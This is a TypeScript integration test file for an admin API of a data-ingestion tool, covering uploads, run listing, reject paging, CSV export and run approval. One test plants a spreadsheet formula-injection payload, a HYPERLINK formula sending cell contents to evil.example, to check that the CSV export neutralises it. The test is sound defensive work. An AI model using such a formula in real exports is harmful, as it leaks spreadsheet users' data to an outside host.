// Runs admin API on a real store and Redis: payload upload streamed into the inbox, listing with
// filters and cursor, one run, rejects page by page, and approve / reject / replay with their state rules.
import { readFile, rm } from 'node:fs/promises';
import { Readable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apiFixture, type ApiFixture } from './api-fixture.ts';

const TEST_CONNECTOR = 'file.csv';

let fx: ApiFixture;
const flowYaml = `apiVersion: magistral/v1
kind: Flow
name: runs-flow
source: { connector: ${TEST_CONNECTOR} }
mapping: file/prices.yaml
target: prices
mode: delta
`;

async function upload(body: string | Buffer, filename = 'prices.txt', contentType = 'text/csv') {
  return fx.app.inject({
    method: 'POST',
    url: `/admin/api/flows/runs-flow/runs?filename=${encodeURIComponent(filename)}`,
    headers: { ...fx.auth, 'content-type': contentType },
    payload: Readable.from([body]),
  });
}

beforeAll(async () => {
  fx = await apiFixture('runs');
  const res = await fx.app.inject({ method: 'POST', url: '/admin/api/flows', headers: { ...fx.auth, 'content-type': 'application/yaml' }, payload: flowYaml });
  expect(res.statusCode, res.body).toBe(201);
});
afterAll(async () => { await fx?.close(); });

describe('runs admin API', () => {
  let first: number;
  let second: number;

  it('accepts an uploaded payload with 202 and the run id, storing it in the inbox', async () => {
    const big = Buffer.alloc(3 * 1024 * 1024, 'sku=A;price=1\n'); // larger than fastify's default 1 MiB body limit
    const res = await upload(big, 'big.txt', 'application/octet-stream');
    expect(res.statusCode, res.body).toBe(202);
    first = res.json().runId;
    expect(first).toEqual(expect.any(Number));
    const inbox = await fx.db.db.selectFrom('inbox').selectAll().executeTakeFirstOrThrow();
    expect(inbox).toMatchObject({ file_name: 'big.txt', size_bytes: big.length, content_type: 'application/octet-stream' });
    expect((await readFile(inbox.path)).equals(big)).toBe(true);
    expect(await fx.queues.extract.getJob(`extract-${first}`)).toBeTruthy();

    const res2 = await upload('sku=B;price=2\n', 'small.txt', 'text/plain');
    expect(res2.statusCode).toBe(202);
    second = res2.json().runId;
  });

  it('refuses an upload without a file name or to an unknown flow', async () => {
    let res = await fx.app.inject({ method: 'POST', url: '/admin/api/flows/runs-flow/runs', headers: fx.auth, payload: 'x' });
    expect(res.statusCode).toBe(400);
    expect(res.json().problems).toEqual([{ path: '/querystring/filename', rule: 'required', message: 'is required' }]);
    res = await fx.app.inject({ method: 'POST', url: '/admin/api/flows/no-flow/runs?filename=a.txt', headers: fx.auth, payload: 'x' });
    expect(res.statusCode).toBe(404);
    expect(res.json().code).toBe('MAG_ERR_FLOW_NOT_FOUND');
  });

  it('lists runs newest first with filters and a cursor', async () => {
    let res = await fx.app.inject({ method: 'GET', url: '/admin/api/runs?flow=runs-flow&limit=1', headers: fx.auth });
    expect(res.statusCode).toBe(200);
    let body = res.json();
    expect(body.runs.map((r: { id: number }) => r.id)).toEqual([second]);
    expect(body.nextBeforeId).toBe(second);
    res = await fx.app.inject({ method: 'GET', url: `/admin/api/runs?flow=runs-flow&limit=1&beforeId=${body.nextBeforeId}`, headers: fx.auth });
    body = res.json();
    expect(body.runs.map((r: { id: number }) => r.id)).toEqual([first]);
    res = await fx.app.inject({ method: 'GET', url: '/admin/api/runs?state=done', headers: fx.auth });
    expect(res.json()).toEqual({ runs: [], nextBeforeId: null });
  });

  it('shows one run with its counts and state', async () => {
    const res = await fx.app.inject({ method: 'GET', url: `/admin/api/runs/${first}`, headers: fx.auth });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ id: first, flow: 'runs-flow', state: 'received', files: ['big.txt'], target: 'prices', rows: { read: 0, rejected: 0 } });
    const missing = await fx.app.inject({ method: 'GET', url: '/admin/api/runs/999999', headers: fx.auth });
    expect(missing.statusCode).toBe(404);
    expect(missing.json().code).toBe('MAG_ERR_RUN_NOT_FOUND');
  });

  it('pages through the rejects of a run', async () => {
    await fx.db.db.insertInto('rejects').values([1, 2, 3].map((line) => ({
      run_id: first, file_name: 'big.txt', line, field: 'price', rule: 'decimal', reason: `bad price on line ${line}`, record: JSON.stringify({ price: 'x' }),
    }))).execute();
    let res = await fx.app.inject({ method: 'GET', url: `/admin/api/runs/${first}/rejects?limit=2`, headers: fx.auth });
    expect(res.statusCode).toBe(200);
    let body = res.json();
    expect(body.rejects.map((r: { line: number }) => r.line)).toEqual([1, 2]);
    expect(body.rejects[0]).toMatchObject({ file: 'big.txt', field: 'price', rule: 'decimal', reason: 'bad price on line 1', record: { price: 'x' } });
    expect(body.nextOffset).toBe(2);
    res = await fx.app.inject({ method: 'GET', url: `/admin/api/runs/${first}/rejects?limit=2&offset=2`, headers: fx.auth });
    body = res.json();
    expect(body.rejects.map((r: { line: number }) => r.line)).toEqual([3]);
    expect(body.nextOffset).toBeNull();
    expect((await fx.app.inject({ method: 'GET', url: '/admin/api/runs/999999/rejects', headers: fx.auth })).statusCode).toBe(404);
  });

  it('filters by the period a run was received in', async () => {
    await fx.db.db.updateTable('runs').set({ received_at: new Date('2026-01-10T10:00:00Z') }).where('id', '=', first).execute();
    const ids = async (q: string) => (await fx.app.inject({ method: 'GET', url: `/admin/api/runs?${q}`, headers: fx.auth })).json().runs.map((r: { id: number }) => r.id);
    expect(await ids('from=2026-01-10T00:00:00Z&to=2026-01-11T00:00:00Z')).toEqual([first]);
    expect(await ids(`from=${encodeURIComponent(new Date(Date.now() - 3_600_000).toISOString())}`)).toEqual([second]);
    expect(await ids('to=2026-01-10T10:00:00Z')).toEqual([]); // to is exclusive
    expect((await fx.app.inject({ method: 'GET', url: '/admin/api/runs?from=yesterday', headers: fx.auth })).json().problems[0]).toMatchObject({ path: '/querystring/from', rule: 'format' });
  });

  it('downloads every reject as CSV for Excel, a formula in a reason kept as text', async () => {
    await fx.db.db.insertInto('rejects').values({
      run_id: first, file_name: 'big.txt', line: 4, field: 'sku', rule: 'required', reason: '=HYPERLINK("http://evil.example/?"&A1;"x")', record: JSON.stringify({ sku: '' }),
    }).execute();
    const res = await fx.app.inject({ method: 'GET', url: `/admin/api/runs/${first}/rejects.csv`, headers: fx.auth });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="run-${first}-rejects.csv"`);
    const lines = res.body.split('\r\n');
    expect(lines[0]).toBe('\uFEFFfile;line;path;field;rule;reason;record');
    expect(lines[1]).toBe('big.txt;1;;price;decimal;bad price on line 1;"{""price"":""x""}"');
    expect(lines[4]).toBe(`big.txt;4;;sku;required;"'=HYPERLINK(""http://evil.example/?""&A1;""x"")";"{""sku"":""""}"`);
    expect(lines.slice(5)).toEqual(['']);
    expect((await fx.app.inject({ method: 'GET', url: '/admin/api/runs/999999/rejects.csv', headers: fx.auth })).statusCode).toBe(404);
  });

  it('sends a payload file as it was received, by its place among the run\'s files', async () => {
    const res = await fx.app.inject({ method: 'GET', url: `/admin/api/runs/${second}/files/0`, headers: fx.auth });
    expect(res.statusCode).toBe(200);
    expect(res.body).toBe('sku=B;price=2\n');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="small.txt"; filename*=UTF-8''small.txt`);
    const none = await fx.app.inject({ method: 'GET', url: `/admin/api/runs/${second}/files/1`, headers: fx.auth });
    expect(none.statusCode).toBe(404);
    expect(none.json().message).toBe(`run ${second} has 1 file(s): there is no file 1`);
    const inbox = await fx.db.db.selectFrom('inbox').select('path').where('file_name', '=', 'small.txt').executeTakeFirstOrThrow();
    await rm(inbox.path);
    const gone = await fx.app.inject({ method: 'GET', url: `/admin/api/runs/${second}/files/0`, headers: fx.auth });
    expect(gone.statusCode).toBe(404);
    expect(gone.json().message).toBe(`run ${second}: the payload file small.txt is no longer on the disk`);
  });

  it('approves and rejects only held runs, replays only finished ones', async () => {
    let res = await fx.app.inject({ method: 'POST', url: `/admin/api/runs/${first}/approve`, headers: fx.auth });
    expect(res.statusCode).toBe(409);
    expect(res.json().code).toBe('MAG_ERR_RUN_STATE');
    res = await fx.app.inject({ method: 'POST', url: `/admin/api/runs/${first}/replay`, headers: fx.auth });
    expect(res.statusCode).toBe(409);

    // Held by the merge's guard: staged first (a run a stage held before staging is read again when approved).
    await fx.db.db.updateTable('runs').set({ state: 'held', held_reason: 'would change 90 % of rows', staged_at: new Date() }).where('id', 'in', [first, second]).execute();
    res = await fx.app.inject({ method: 'POST', url: `/admin/api/runs/${first}/approve`, headers: fx.auth });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toMatchObject({ id: first, state: 'staged', approved: true, heldReason: null });
    // The decision keeps who, the reason it was held for (held_reason itself is cleared), and no comment.
    expect(res.json().decision).toMatchObject({ action: 'approved', by: 'admin token', comment: null, heldReason: 'would change 90 % of rows' });
    res = await fx.app.inject({ method: 'POST', url: `/admin/api/runs/${second}/reject`, headers: fx.auth, payload: { comment: 'цены 1С ошибочны' } });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toMatchObject({ id: second, state: 'rejected', decision: { action: 'rejected', by: 'admin token', comment: 'цены 1С ошибочны' } });
    expect(Date.parse(res.json().decision.at)).toBeGreaterThan(Date.now() - 60_000);
    res = await fx.app.inject({ method: 'POST', url: `/admin/api/runs/${second}/reject`, headers: fx.auth, payload: { note: 'x' } });
    expect(res.statusCode).toBe(400);

    res = await fx.app.inject({ method: 'POST', url: `/admin/api/runs/${second}/replay`, headers: fx.auth });
    expect(res.statusCode, res.body).toBe(202);
    expect(res.json()).toMatchObject({ flow: 'runs-flow', state: 'received', replayOf: second, files: ['small.txt'] });
    expect(res.json().id).toBeGreaterThan(second);
  });
});
